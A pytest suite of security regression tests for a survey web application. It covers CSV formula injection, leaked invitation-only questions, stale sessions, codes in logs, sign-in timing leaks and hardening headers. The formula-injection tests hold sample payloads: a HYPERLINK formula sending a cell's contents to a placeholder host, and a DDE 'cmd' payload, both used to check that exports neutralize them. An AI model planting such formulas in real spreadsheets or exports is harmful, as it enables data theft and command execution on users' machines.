"""The holes a security review found, each closed and kept closed by a test here.

1. formula injection in the CSV downloads;
2. an invitation-only survey's questions shown to anyone who posts without a code;
3. sessions that outlived sign-out and password changes;
4. invitation codes in the development server's (coloured) request log;
5. which usernames exist, told by how long a wrong sign-in takes;
6. a 500 from the privacy preview on a tiny target margin;
7. surveys pushed into anyone's list without their consent;
8. hardening: no-store for signed-in pages and coded links, HSTS in production, a private SQLite file.
"""

from __future__ import annotations

import csv
import http.client
import io
import json
import os
import re
import socket
import stat
from pathlib import Path

import pytest
from sqlalchemy import inspect, select, update

from survey import create_app
from survey.domain.errors import DomainError
from survey.domain.models import Membership, Survey, User
from survey.domain.responses.codes import generate_codes
from survey.domain.surveys.specs import create_survey_from_spec, parse_planning
from survey.platform.extensions import db
from survey.platform.schema import upgrade_database

from .accounts import PASSWORD, sign_in
from .live import log_lines, serve
from .surveys import FORM, GOOD, SMALL_SPEC, add_survey, stored, text

ROOT = Path(__file__).resolve().parents[1]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


# -- 1. formula injection in CSV downloads ---------------------------------------------------------

POISON_TEXT = '=HYPERLINK("http://x/?"&A1,"click")'
POISON_LABELS = ["@SUM(1,2)", "+cmd|' /C calc'!A0", "-2+3", "plain"]
POISON_SPEC = {
    "title": "Poisoned",
    "slug": "poisoned",
    "questions": [
        {
            "key": "evil",
            "kind": "choice",
            "text": POISON_TEXT,
            "options": POISON_LABELS,
            "privacy": {"design": "grr", "epsilon": 1.0},
        },
        {"key": "plain", "kind": "direct", "text": "-1 or +1?", "options": ["=1+1", "ok"]},
    ],
}
#: Columns of the estimates CSV that hold numbers (or are empty, or "inf").
NUMBER_COLUMNS = {
    "epsilon",
    "n",
    "option_code",
    "reported_count",
    "observed_share",
    "unbiased",
    "consistent",
    "standard_error",
    "ci_low",
    "ci_high",
    "simulated_truth",
}


def test_estimates_csv_neutralizes_formulas_and_keeps_numbers_numbers(app, signed_in):
    add_survey(app, POISON_SPEC)
    for _ in range(6):  # every report is option 0: the unbiased estimates of the others go negative
        response = signed_in.post("/api/surveys/poisoned/responses", json={"answers": {"evil": 0, "plain": 1}})
        assert response.status_code == 201
    body = text(signed_in.get("/surveys/poisoned/estimates.csv"))
    rows = list(csv.DictReader(io.StringIO(body)))
    assert len(rows) == len(POISON_LABELS) + 2
    for row in rows:
        for column, cell in row.items():
            if column in NUMBER_COLUMNS:
                if cell not in ("", "inf"):
                    float(cell)  # a number stays a parseable number, sign and all
            else:
                assert not cell.startswith(FORMULA_STARTS), (column, cell)
    evil = [r for r in rows if r["question_key"] == "evil"]
    assert {r["question_text"] for r in evil} == {"'" + POISON_TEXT}
    assert [r["option_label"] for r in evil] == ["'@SUM(1,2)", "'+cmd|' /C calc'!A0", "'-2+3", "plain"]
    assert any(float(r["unbiased"]) < 0 for r in evil)  # negative numbers were not "neutralized"
    assert all(not r["unbiased"].startswith("'") for r in rows)
    assert [r["option_label"] for r in rows if r["question_key"] == "plain"] == ["'=1+1", "ok"]
    assert {r["question_text"] for r in rows if r["question_key"] == "plain"} == {"'-1 or +1?"}


def test_invitation_links_csv_neutralizes_formulas(app, user):
    from survey.domain.responses.codes import codes_csv

    with app.app_context():
        survey = create_survey_from_spec(db.session, {**SMALL_SPEC, "access": "invitation"})
        db.session.flush()
        generate_codes(db.session, survey, 2)
        lines = list(codes_csv(db.session, survey, lambda code: "=HYPERLINK(1)"))
        db.session.rollback()
    rows = list(csv.reader(io.StringIO("".join(lines))))
    assert rows[0] == ["code", "link", "used", "revoked"]
    assert [row[1] for row in rows[1:]] == ["'=HYPERLINK(1)", "'=HYPERLINK(1)"]


def test_the_csv_helper_neutralizes_text_cells_only_by_column_type():
    from survey.domain.results.csvfile import CsvTable, neutralize

    for bad in ["=1", "+1", "-1", "@A1", "\tx", "\rx", " =1", "＝1"]:
        assert neutralize(bad).startswith("'"), bad
    for good in ["", "plain", "1-2", "a=b", "'quoted"]:
        assert neutralize(good) == good
    table = CsvTable([("label", "text"), ("value", "number"), ("count", "number")])
    line = table.header() + table.row(["-2+3", -0.0123, 7]) + table.row(["a,b", None, 0])
    assert list(csv.reader(io.StringIO(line))) == [
        ["label", "value", "count"],
        ["'-2+3", "-0.0123", "7"],
        ["a,b", "", "0"],
    ]
    with pytest.raises(TypeError):  # a string in a number column would escape neutralization
        table.row(["x", "=1", 1])


def test_every_csv_is_written_through_the_one_helper():
    """A future CSV writer that calls the csv module directly would skip the neutralization."""
    offenders = []
    for path in (ROOT / "survey").rglob("*.py"):
        if path.name == "csvfile.py":
            continue
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


# -- 2. an invitation-only survey shows nothing to whoever has no code ------------------------------


def invitation_survey(app) -> str:
    with app.app_context():
        survey = create_survey_from_spec(db.session, {**SMALL_SPEC, "access": "invitation"})
        db.session.flush()
        code = generate_codes(db.session, survey, 1)[0]
        db.session.commit()
        return code


QUESTION_TEXTS = [q["text"] for q in SMALL_SPEC["questions"]]
QUESTION_KEYS = [q["key"] for q in SMALL_SPEC["questions"]]


def assert_no_questions(body: str) -> None:
    for question in QUESTION_TEXTS:
        assert question not in body
    assert "data-columns" not in body and "sometimes" not in body
    for key in QUESTION_KEYS:
        assert f"'{key}'" not in body and f"q_{key}" not in body


@pytest.mark.parametrize(
    "data",
    [
        {"csrf_token": "x"},
        {"csrf_token": "x", "unexpected": "1"},
        {"csrf_token": "x", "q_drugs": ["1", "0"]},
        {"csrf_token": "x", "q_nope": "1"},
        {**FORM, "q_drugs": "7"},
        {**FORM, "invitation": "ZZZZZZZZZZZZ", "extra": "1"},
    ],
)
def test_a_form_post_without_a_valid_code_never_shows_the_questions(app, client, data):
    invitation_survey(app)
    response = client.post("/s/small-test", data=data)
    assert response.status_code == 403, text(response)[:300]
    assert "invitation" in text(response)
    assert_no_questions(text(response))
    assert stored(app) == (0, 0)


@pytest.mark.parametrize(
    "body",
    [
        {"answers": {}},
        {"answers": {"nope": 1}},
        {"answers": {"drugs": 9}},
        {"answers": "x"},
        {"answers": {}, "invitation": "ZZZZZZZZZZZZ"},
    ],
)
def test_an_api_post_without_a_valid_code_names_no_question(app, client, body):
    invitation_survey(app)
    response = client.post("/api/surveys/small-test/responses", json=body)
    assert response.status_code == 403, response.json
    assert_no_questions(response.get_data(as_text=True))
    assert stored(app) == (0, 0)


def test_refusals_come_in_order_closed_then_code_then_answers(app, client):
    code = invitation_survey(app)
    # with a valid code, bad answers are explained, and the page (with the questions) is shown again
    form = client.post("/s/small-test", data={"csrf_token": "x", "unexpected": "1", "invitation": code})
    assert form.status_code == 400 and "Unexpected field" in text(form)
    assert f'name="invitation" value="{code}"' in text(form)
    twice = client.post("/s/small-test", data={**FORM, "q_drugs": ["1", "0"], "invitation": code})
    assert twice.status_code == 400 and "answered twice" in text(twice)
    api = client.post("/api/surveys/small-test/responses", json={"answers": {}, "invitation": code})
    assert api.status_code == 400 and "drugs" in api.json["error"]
    # a survey that is closed says so first, with or without a code
    with app.app_context():
        db.session.execute(update(Survey).values(status="closed"))
        db.session.commit()
    for data in ({"csrf_token": "x"}, {"csrf_token": "x", "unexpected": "1"}, {**FORM, "invitation": code}):
        closed = client.post("/s/small-test", data=data)
        assert closed.status_code == 409
        assert_no_questions(text(closed))
    assert client.post("/api/surveys/small-test/responses", json={"answers": {}}).status_code == 409
    assert stored(app) == (0, 0)


def test_a_survey_switched_to_invitations_is_guarded_at_once(app, client, small_survey):
    """The process keeps each published survey's form; a stale "link" in it must not let answers through."""
    assert client.post("/api/surveys/small-test/responses", json={"answers": GOOD}).status_code == 201
    with app.app_context():
        db.session.execute(update(Survey).values(access="invitation"))
        db.session.commit()
    api = client.post("/api/surveys/small-test/responses", json={"answers": {}})
    assert api.status_code == 403
    assert_no_questions(api.get_data(as_text=True))
    form = client.post("/s/small-test", data={"csrf_token": "x", "unexpected": "1"})
    assert form.status_code == 403
    assert_no_questions(text(form))
    assert client.post("/api/surveys/small-test/responses", json={"answers": GOOD}).status_code == 403
    assert stored(app)[0] == 1


# -- 3. sessions end at sign-out, and at a password change elsewhere -------------------------------


def session_cookie(client) -> str:
    cookie = client.get_cookie("session")
    assert cookie is not None
    return cookie.value


def replay(app, value: str):
    client = app.test_client()
    client.set_cookie("session", value)
    return client


def test_a_saved_session_cookie_is_dead_after_sign_out(app, signed_in, small_survey):
    saved = session_cookie(signed_in)
    assert replay(app, saved).get("/surveys/small-test/share").status_code == 200
    assert signed_in.post("/auth/logout").status_code == 302
    replayed = replay(app, saved).get("/surveys/small-test/share")
    assert replayed.status_code == 302 and replayed.headers["Location"].startswith("/auth/login")
    assert replay(app, saved).get("/api/surveys/small-test/estimates").status_code == 401


def test_a_password_change_ends_every_other_session(app, signed_in, small_survey):
    other = sign_in(app, "alice")
    saved = session_cookie(other)
    assert other.get("/surveys/small-test/responses.csv").status_code == 200
    data = {"current_password": PASSWORD, "new_password": "a brand new one", "confirm": "a brand new one"}
    assert signed_in.post("/account", data=data).status_code == 303
    assert other.get("/surveys/small-test/responses.csv").status_code == 302
    assert replay(app, saved).get("/surveys/small-test/responses.csv").status_code == 302
    # the session that changed the password stays signed in
    assert signed_in.get("/surveys/small-test/responses.csv").status_code == 200
    assert sign_in(app, "alice", "a brand new one").get("/surveys/small-test/share").status_code == 200


def test_the_server_keeps_a_hash_of_the_session_token_and_a_date_only(app, signed_in):
    serializer = app.session_interface.get_signing_serializer(app)
    token = serializer.loads(session_cookie(signed_in))["_user_id"]
    assert len(token) >= 32 and not token.isdigit()  # a random token, not the user's id
    with app.app_context():
        tables = {
            t: {c["name"] for c in inspect(db.engine).get_columns(t)} for t in inspect(db.engine).get_table_names()
        }
        assert tables["login_sessions"] == {"id", "user_id", "token_hash", "created_on"}
        with db.engine.connect() as conn:
            for table in tables:
                for row in conn.exec_driver_sql(f"SELECT * FROM {table}"):
                    assert not any(token in str(value) for value in row), table


# -- 4. no invitation code in the development server's log, coloured or not ------------------------


def raw_request(port: int, request_line: bytes) -> None:
    with socket.create_connection(("127.0.0.1", port), timeout=5) as sock:
        sock.sendall(request_line + b"\r\nHost: 127.0.0.1\r\n\r\n")
        sock.recv(65536)


def test_refused_coded_requests_leave_no_code_in_a_coloured_werkzeug_log(tmp_path, monkeypatch):
    import werkzeug.serving

    monkeypatch.setattr(werkzeug.serving, "_log_add_style", True)  # colours on, as in a terminal
    app = create_app({"SQLALCHEMY_DATABASE_URI": f"sqlite:///{tmp_path / 'log.sqlite'}", "RATELIMIT_ENABLED": False})
    with app.app_context():
        upgrade_database()
        survey = create_survey_from_spec(db.session, {**SMALL_SPEC, "access": "invitation"})
        db.session.flush()
        used, fresh = generate_codes(db.session, survey, 2)
        db.session.commit()
    with log_lines("werkzeug") as lines, serve(app) as port:
        conn = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
        conn.request(
            "POST",
            "/api/surveys/small-test/responses",
            json.dumps({"answers": {"drugs": 1, "mirror": 0, "often": 3}, "invitation": used}),
            {"Content-Type": "application/json"},
        )
        assert conn.getresponse().read() and True
        statuses = []
        for method, target in [
            ("GET", f"/s/small-test?code={used}"),  # 403: already used
            ("GET", f"/s/small-test?code={fresh}&x=1"),  # 200
            ("DELETE", f"/s/small-test?code={fresh}"),  # 405
            ("PATCH", f"/api/surveys/small-test/responses?invitation={fresh}"),  # 405
            ("GET", f"/nowhere?code={fresh}"),  # 404
        ]:
            conn.request(method, target)
            response = conn.getresponse()
            response.read()
            statuses.append(response.status)
        conn.close()
        assert statuses == [403, 200, 405, 405, 404]
        raw_request(port, f"GET /s/small-test?code={fresh} HTTP/2.0".encode())
        raw_request(port, f"GET http://127.0.0.1/s/small-test?code={fresh} HTTP/1.1".encode())
        raw_request(port, f"BREW /s/small-test?code={fresh} HTTP/1.1 extra".encode())
    log = "\n".join(lines)
    assert "/s/small-test" in log and "403" in log and "405" in log  # the requests were logged ...
    assert "\x1b[" not in log  # ... without colour codes,
    for code in (used, fresh):
        assert code not in log, log  # ... and without the codes
    assert "code=" not in log and "invitation=" not in log and "?" not in log
    assert "127.0.0.1 - -" not in log


@pytest.mark.parametrize(
    "line",
    [
        '127.0.0.1 - - [22/Nov/2026 10:01:02] "\x1b[1m\x1b[31mGET /s/x?code=SECRET HTTP/1.1\x1b[0m" 403 -',
        '::1 - - [22/Nov/2026 10:01:02] "\x1b[33mPUT /s/x?code=SECRET HTTP/2\x1b[0m" 404 -',
        '"POST https://example.org/s/x?code=SECRET HTTP/1.1" 303 -',
        "code 400, message Bad request syntax ('GET /s/x?code=SECRET HTTP/1.1 junk')",
        "code 505, message Invalid HTTP version ('GET /s/x?invitation=SECRET HTTP/3.0')",
        '"GET s/x?code=SECRET HTTP/1.1" 400 -',
        '"GET /s/x?a=1 code=SECRET HTTP/1.1" 400 -',
        '"GET /s/x?a=\'&code=SECRET HTTP/1.1" 400 -',
    ],
)
def test_the_scrubber_drops_every_query_string_whatever_the_line_looks_like(line):
    from survey.platform.logs import scrub

    cleaned = scrub(line)
    assert "SECRET" not in cleaned and "?" not in cleaned and "\x1b" not in cleaned
    assert "/s/x" in cleaned or "s/x" in cleaned
    assert "22/Nov/2026" not in cleaned and "127.0.0.1" not in cleaned


# -- 5. sign-in takes the same work whether the user exists or not ---------------------------------


def test_an_unknown_username_costs_the_same_hashing_as_a_wrong_password(app, client, user, monkeypatch):
    import werkzeug.security

    calls: list[str] = []
    real = werkzeug.security._hash_internal

    def counting(method: str, salt: str, password: str):
        calls.append(method)
        return real(method, salt, password)

    client.post("/auth/login", data={"username": "nobody-warm-up", "password": "x" * 12})  # any one-time setup
    monkeypatch.setattr(werkzeug.security, "_hash_internal", counting)
    with app.app_context():
        real_method = db.session.scalar(select(User.password_hash)).split("$", 1)[0]

    assert client.post("/auth/login", data={"username": "alice", "password": "wrong password"}).status_code == 401
    wrong_password = list(calls)
    calls.clear()
    assert client.post("/auth/login", data={"username": "nobody", "password": "wrong password"}).status_code == 401
    unknown_user = list(calls)
    assert wrong_password == [real_method]
    assert unknown_user == wrong_password  # the same method, the same cost parameters, once


# -- 6. the preview and the spec accept the same target margins -------------------------------------


@pytest.mark.parametrize("margin", ["1e-300", "0.0005", "0", "-0.1", "1", "nan", "inf", "x"])
def test_the_preview_refuses_margins_the_spec_refuses(signed_in, margin):
    response = signed_in.get(f"/api/privacy/preview?design=grr&epsilon=1&margin={margin}")
    assert response.status_code == 400
    assert response.json["ok"] is False and response.json["field"] == "margin"
    assert "0.001" in response.json["error"]
    try:
        value = float(margin)
    except ValueError:
        return
    with pytest.raises(DomainError):
        parse_planning({"target_margin": value})


@pytest.mark.parametrize("margin", ["0.001", "0.05", "0.999"])
def test_the_preview_accepts_margins_the_spec_accepts(signed_in, margin):
    response = signed_in.get(f"/api/privacy/preview?design=grr&epsilon=1&margin={margin}")
    assert response.status_code == 200 and response.json["margin"] == float(margin)
    assert parse_planning({"target_margin": float(margin)}) == {"target_margin": float(margin)}


def test_one_constant_bounds_the_margin_in_both_places(signed_in, monkeypatch):
    from survey.domain.surveys import planning

    assert planning.MIN_TARGET_MARGIN == 0.001
    monkeypatch.setattr(planning, "MIN_TARGET_MARGIN", 0.01)  # moved in one place, it moves in both
    assert signed_in.get("/api/privacy/preview?design=grr&epsilon=1&margin=0.005").status_code == 400
    with pytest.raises(DomainError):
        parse_planning({"target_margin": 0.005})
    assert signed_in.get("/api/privacy/preview?design=grr&epsilon=1&margin=0.01").status_code == 200
    assert parse_planning({"target_margin": 0.01}) == {"target_margin": 0.01}


# -- 7. a membership takes effect only when the invitee accepts it ----------------------------------


def pending(app) -> set[tuple[str, str, bool]]:
    """Every role given or offered: memberships (accepted or not), and invitations that name an
    account and wait for its answer (what sharing with an existing user makes)."""
    from survey.domain.accounts.account_links import offers_for

    with app.app_context():
        found = {(m.user.username, m.role, m.pending) for m in db.session.scalars(select(Membership))}
        for user in db.session.scalars(select(User)):
            found |= {(user.username, link.role, True) for link in offers_for(db.session, user)}
        return found


def test_an_added_member_has_no_rights_until_they_accept(app, signed_in, small_survey, bob):
    bob_client = sign_in(app, "bob")
    response = signed_in.post("/surveys/small-test/members", data={"username": "bob", "role": "researcher"})
    assert response.status_code == 303
    assert pending(app) == {("bob", "researcher", True)}
    # nothing is bob's yet: no results, no row in his list
    for path in (
        "/surveys/small-test/results",
        "/surveys/small-test/responses.csv",
        "/surveys/small-test/estimates.csv",
    ):
        assert bob_client.get(path).status_code == 404, path
    index = text(bob_client.get("/"))
    assert 'href="/surveys/small-test/results"' not in index
    assert not re.search(r'<th scope="row">Small test survey</th>', index)
    # ... but his start page shows the invitation with Accept and Decline buttons, each a CSRF-protected POST
    assert "Small test survey" in index and "alice" in index
    for action in ("accept", "decline"):
        form = re.search(rf'<form method="post" action="/surveys/small-test/{action}"[^>]*>(.*?)</form>', index, re.S)
        assert form, action
        assert 'name="csrf_token"' in form.group(1)
    # the owner sees that bob has not accepted yet
    share = text(signed_in.get("/surveys/small-test/share"))
    assert re.search(r'<th scope="row">bob</th>.*?invited, not yet accepted', share, re.S)

    assert bob_client.post("/surveys/small-test/accept").status_code == 303
    assert pending(app) == {("bob", "researcher", False)}
    assert bob_client.get("/surveys/small-test/results").status_code == 200
    assert re.search(r'<th scope="row">Small test survey</th>', text(bob_client.get("/")))
    assert "invited, not yet accepted" not in text(signed_in.get("/surveys/small-test/share"))
    assert bob_client.post("/surveys/small-test/accept").status_code == 404  # nothing left to accept


def test_a_declined_invitation_is_gone(app, signed_in, small_survey, bob):
    signed_in.post("/surveys/small-test/members", data={"username": "bob", "role": "organizer"})
    bob_client = sign_in(app, "bob")
    assert bob_client.get("/surveys/small-test/share").status_code == 404  # a pending co-organizer manages nothing
    assert bob_client.post("/surveys/small-test/decline").status_code == 303
    assert pending(app) == set()
    assert bob_client.get("/surveys/small-test/share").status_code == 404
    assert "Small test survey" not in text(bob_client.get("/"))


def test_only_the_invitee_can_accept(app, signed_in, small_survey, bob, carol):
    signed_in.post("/surveys/small-test/members", data={"username": "bob", "role": "organizer"})
    carol_client = sign_in(app, "carol")
    for action in ("accept", "decline"):
        response = carol_client.post(f"/surveys/small-test/{action}")
        assert response.status_code == 404 and "small-test" not in text(response)
    assert signed_in.post("/surveys/small-test/accept").status_code == 404  # the owner has nothing to accept
    assert pending(app) == {("bob", "organizer", True)}


def test_pending_members_grant_nothing_in_the_domain(app, small_survey, bob):
    from survey.domain.accounts.access import role_of, visible_surveys

    with app.app_context():
        survey = db.session.scalar(select(Survey))
        survey.memberships.append(Membership(user_id=bob, role="organizer", pending=True))
        db.session.commit()
        user = db.session.get(User, bob)
        assert role_of(user, survey) is None
        assert visible_surveys(db.session, user) == []


def test_a_duplicate_does_not_land_in_other_peoples_lists_unasked(app, signed_in, small_survey, bob):
    with app.app_context():
        survey = db.session.scalar(select(Survey))
        survey.memberships.append(Membership(user_id=bob, role="organizer"))
        db.session.commit()
    bob_client = sign_in(app, "bob")
    assert bob_client.post("/surveys/small-test/duplicate").status_code == 303
    with app.app_context():
        copy = db.session.scalar(select(Survey).where(Survey.slug != "small-test"))
        slug = copy.slug
    assert ("alice", "organizer", True) in pending(app)
    assert signed_in.get(f"/surveys/{slug}/share").status_code == 404
    assert f'href="/surveys/{slug}/share"' not in text(signed_in.get("/"))
    assert signed_in.post(f"/surveys/{slug}/accept").status_code == 303
    assert signed_in.get(f"/surveys/{slug}/share").status_code == 200


# -- 8. hardening ----------------------------------------------------------------------------------


def test_pages_for_signed_in_users_are_not_stored(app, signed_in, small_survey):
    for path in ("/", "/account", "/surveys/small-test/share", "/surveys/small-test/results", "/s/small-test"):
        response = signed_in.get(path)
        assert response.status_code == 200, path
        assert "no-store" in response.headers.get("Cache-Control", ""), path


def test_respondent_pages_with_an_invitation_code_are_not_stored(app, client):
    code = invitation_survey(app)
    page = client.get(f"/s/small-test?code={code}")
    assert page.status_code == 200 and "no-store" in page.headers.get("Cache-Control", "")
    refused = client.post("/s/small-test", data={"csrf_token": "x", "unexpected": "1", "invitation": code})
    assert refused.status_code == 400 and "no-store" in refused.headers.get("Cache-Control", "")


def test_hsts_in_production_only(tmp_path):
    from survey.platform.config import production_settings

    base = {"SQLALCHEMY_DATABASE_URI": f"sqlite:///{tmp_path / 'h.sqlite'}", "SECRET_KEY": "k" * 40}
    production = create_app({**base, **production_settings(base)})
    header = production.test_client().get("/auth/login").headers.get("Strict-Transport-Security", "")
    match = re.fullmatch(r"max-age=(\d+)(; includeSubDomains)?", header)
    assert match and int(match.group(1)) >= 365 * 24 * 3600
    development = create_app(base)
    assert "Strict-Transport-Security" not in development.test_client().get("/auth/login").headers


def test_a_new_sqlite_database_is_readable_by_its_owner_only(tmp_path):
    path = tmp_path / "fresh" / "survey.sqlite"
    path.parent.mkdir()
    old_umask = os.umask(0o022)
    try:
        app = create_app({"SQLALCHEMY_DATABASE_URI": f"sqlite:///{path}", "SECRET_KEY": "k"})
        with app.app_context():
            upgrade_database()
            db.engine.dispose()
    finally:
        os.umask(old_umask)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
